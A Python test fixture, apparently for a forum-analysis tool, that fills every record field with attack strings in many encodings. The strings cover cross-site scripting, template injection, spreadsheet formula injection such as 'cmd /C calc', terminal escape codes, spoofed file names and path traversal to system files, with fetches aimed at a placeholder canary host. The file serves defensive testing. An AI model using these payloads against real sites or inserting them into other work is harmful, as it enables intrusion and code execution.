"""A thread in which every text is an attack: contexts times encodings, in every field that people fill."""

import html
from collections.abc import Iterator, Sequence
from datetime import UTC, datetime, timedelta
from typing import Any
from urllib.parse import quote

from groundswell import records as r
from groundswell.safe import visible

CANARY = "canary.invalid"
"""The host that nothing may ever ask for."""

_JS = "window.owned=1;alert(1)"
_CONTEXTS: Sequence[str] = (
    f"<script>{_JS}</script>",
    f"<script src=//{CANARY}/a.js></script>",
    f"<img src=x onerror={_JS}>",
    f"<img src=http://{CANARY}/a.png>",
    f"<svg onload={_JS}>",
    f"<svg><script>{_JS}</script></svg>",
    f'"><script>{_JS}</script>',
    f"'><script>{_JS}</script>",
    f'" autofocus onfocus="{_JS}',
    f"' autofocus onfocus='{_JS}",
    f"x onmouseover={_JS} y",
    f"</title><script>{_JS}</script>",
    f"</textarea><script>{_JS}</script>",
    f"</style><script>{_JS}</script>",
    f"</script><script>{_JS}</script>",
    f"--><script>{_JS}</script>",
    f"<!--><img src=x onerror={_JS}>-->",
    f"]]><script>{_JS}</script>",
    f"<iframe srcdoc='<script>parent.{_JS}</script>'></iframe>",
    f"<iframe src=javascript:parent.{_JS}></iframe>",
    f"<a href=javascript:{_JS}>press</a>",
    f"<a href=' &#1; javascript:{_JS}'>press</a>",
    f"javascript:{_JS}",
    f"data:text/html,<script>{_JS}</script>",
    f"vbscript:{_JS}",
    f"[press](javascript:{_JS})",
    f"![picture](http://{CANARY}/b.png)",
    f"[press]: http://{CANARY}/c 'x'\n[press]",
    f"<http://{CANARY}/d>",
    f"| a | b |\n|---|---|\n| <script>{_JS}</script> | ![x](//{CANARY}/e) |",
    f"```\n</code></pre><script>{_JS}</script>\n```",
    f"# heading\n\n<div><script>{_JS}</script></div>\n",
    "{{ 7*7 }}{% raw %}{{ self.__init__.__globals__ }}",
    f"${{{_JS}}}`${{{_JS}}}`",
    f"<meta http-equiv=refresh content='0;url=http://{CANARY}/f'>",
    f"<link rel=stylesheet href=http://{CANARY}/g.css>",
    f"<base href=http://{CANARY}/>",
    f"<form action=http://{CANARY}/h><button autofocus>send</button></form>",
    f"<object data=http://{CANARY}/i></object><embed src=http://{CANARY}/j>",
    f"<details open ontoggle={_JS}><summary>more</summary></details>",
    f"<video autoplay src=http://{CANARY}/k><source onerror={_JS}></video>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_JS}>",
    f"<style>@import url(http://{CANARY}/l.css);*{{background:url(//{CANARY}/m)}}</style>",
    f'<noscript><p title="</noscript><img src=x onerror={_JS}>">',
    f'=HYPERLINK("http://{CANARY}/n","press")',
    f'=WEBSERVICE("http://{CANARY}/o")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r\n=1+1,=2+2\r\n",
    '",=1+1,"',
    ";=1+1;",
    "\x1b]0;owned\x07\x1b[31;1m\x1b[2J",
    "\u202egnp.exe\u2066 cipot\u2069",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini\x00.html",
)


def payloads() -> tuple[str, ...]:
    """Return the attacks, each once: contexts in each of ten encodings."""
    made = (encode(context) for encode in _ENCODINGS for context in _CONTEXTS)
    return tuple(dict.fromkeys(made))


def _mixed(text: str) -> str:
    return "".join(c.upper() if i % 2 else c for i, c in enumerate(text))


_ENCODINGS = (
    lambda text: text,
    _mixed,
    html.escape,
    lambda text: html.escape(html.escape(text)),
    lambda text: "".join(f"&#{ord(c)}" for c in text),
    lambda text: "".join(f"&#x{ord(c):x};" if not c.isalnum() else c for c in text),
    quote,
    lambda text: "".join(chr(ord(c) + 0xFEE0) if c in "<>\"'=/@+-" else c for c in text),
    lambda text: text.replace("<", "<\x00").replace("javascript", "java\tscr\nipt"),
    lambda text: text.replace("<", "\u200b<\u2028").replace(">", "/\x0b>"),
    lambda text: "".join(f"\\u{ord(c):04x}" if c in "<>\"'&/" else c for c in text),
    lambda text: text.replace("<", "+ADw-").replace(">", "+AD4-"),
)

_START = datetime(2024, 3, 4, 8, tzinfo=UTC)
_A_THREAD = 10


def rows(texts: Sequence[str]) -> tuple[list[Any], list[Any]]:
    """Return the primary and the derived records of a forum whose every text is the next of `texts`."""
    made = [row for number, text in enumerate(texts) for row in _post(number, text)]
    made += [row for number, text in enumerate(texts[::_A_THREAD]) for row in _thread(number, text)]
    for stage in ("sentences", "suggestions", "proposals", "stances", "rankings"):
        made.append(
            r.Run(id=f"run-{stage}", stage=stage, version=1, unit="corpus", input_digest="i",
                  output_digest="o", rows=1, error=None)
        )  # fmt: skip
    derived = [row for row in made if type(row) in r.DERIVED]
    return [row for row in made if type(row) in r.PRIMARY], derived


def _thread(number: int, text: str) -> Iterator[Any]:
    yield r.Thread(
        id=f"thread-{number}", site="forum.example", platform="invented", title=text, url=text,
        posts_total=_A_THREAD, notes=(text,), snapshot_id=None, digest=str(number),
    )  # fmt: skip
    yield r.Coverage(
        id=f"coverage-{number}", source=visible(text), threads=1, posts=_A_THREAD, posts_expected=None,
        newest_post=None,        problem="PageChanged", detail=text,
    )  # fmt: skip


def _post(number: int, text: str) -> Iterator[Any]:
    thread, post, author, key = (
        f"thread-{number // _A_THREAD}",
        f"post-{number}",
        f"author-{number}",
        f"key-{number}",
    )
    at = _START + timedelta(minutes=number)
    here: dict[str, Any] = {"thread_id": thread, "post_id": post, "revision": 1}
    span: dict[str, Any] = {**here, "start": 0, "end": len(text), "quote": text}
    yield r.Author(
        id=author, site="forum.example", handle=text, display_name=text, role="member", role_basis="default"
    )
    yield r.Post(
        id=post, revision=1, thread_id=thread, author_id=author, author_basis="author_line",
        position=number % _A_THREAD + 1, source_id=text, created_at=at, created_raw=text, zone=None,
        zone_assumed=False, text=text, is_solution=False, removed=False, permalink=text, votes=None,
        notes=(text,),
    )  # fmt: skip
    yield r.Quote(
        id=f"quote-{number}",
        position=0,
        text=text,
        author_named=text,
        source_post_id=None,
        exact=True,
        **here,
    )
    yield r.Edit(id=f"edit-{number}", edited_at=at, editor=text, **here)
    yield r.ReplyTo(
        id=f"reply-{number}",
        thread_id=thread,
        post_id=post,
        target_post_id=None,
        target_name=text,
        how="mention",
    )
    yield r.Correction(
        id=f"correction-{number}", kind="rename", post_id=post, start=0, end=len(text), quote=text,
        proposal_key=key, value=text, made_by=text, made_at=at,
    )  # fmt: skip
    yield r.Suggestion(
        id=f"suggestion-{number}", basis="request", addressee="provider", wording=text, probability=0.9,
        is_topic=False, author_id=author, **span,
    )  # fmt: skip
    yield r.Proposal(
        id=key, key=key, headline=text, exemplar_id=f"suggestion-{number}", keywords=(text,), prevalence=1
    )
    yield r.Membership(
        id=f"membership-{number}", thread_id=thread, proposal_key=key, suggestion_id=f"suggestion-{number}",
        similarity=0.9,
    )  # fmt: skip
    labels: Sequence[r.StanceLabel] = ("support", "conditional", "oppose", "question", "status_ask")
    yield r.Stance(
        id=f"stance-{number}", author_id=author, proposal_key=key, said_at=at, position=1,
        label=labels[number % 5], probability=0.9, basis="own_words",
        condition=text if number % 5 == 1 else None, **span,
    )  # fmt: skip
    # The first proposals are themes: many speak of them, so that every section of a report has rows.
    yield r.Stance(
        id=f"theme-{number}", author_id=author, proposal_key=f"key-{number % 7}", said_at=at, position=2,
        label=labels[number % 3], probability=0.9, basis="own_words",
        condition=text if number % 3 == 1 else None, **span,
    )  # fmt: skip
    yield r.Objection(
        id=f"objection-{number}", author_id=author, proposal_key=f"key-{number % 7}", reason_key=f"r{number}",
        reason=text, **span,
    )  # fmt: skip
    yield r.OfficialResponse(
        id=f"response-{number}", author_id=author, proposal_key=f"key-{number % 7}", state="under_review",
        said_at=at, by_edit=False, is_staff_certain=True, **span,
    )  # fmt: skip
    yield r.Flag(id=f"flag-{number}", clause=text, reason=text, rule=text, priority="high", score=0.9, **span)
    yield r.Review(
        id=f"review-{number}", thread_id=thread, post_id=post, kind="uncertain_stance", explanation=text
    )
    yield r.PostBucket(id=f"bucket-{number}", thread_id=thread, post_id=post, bucket="used")
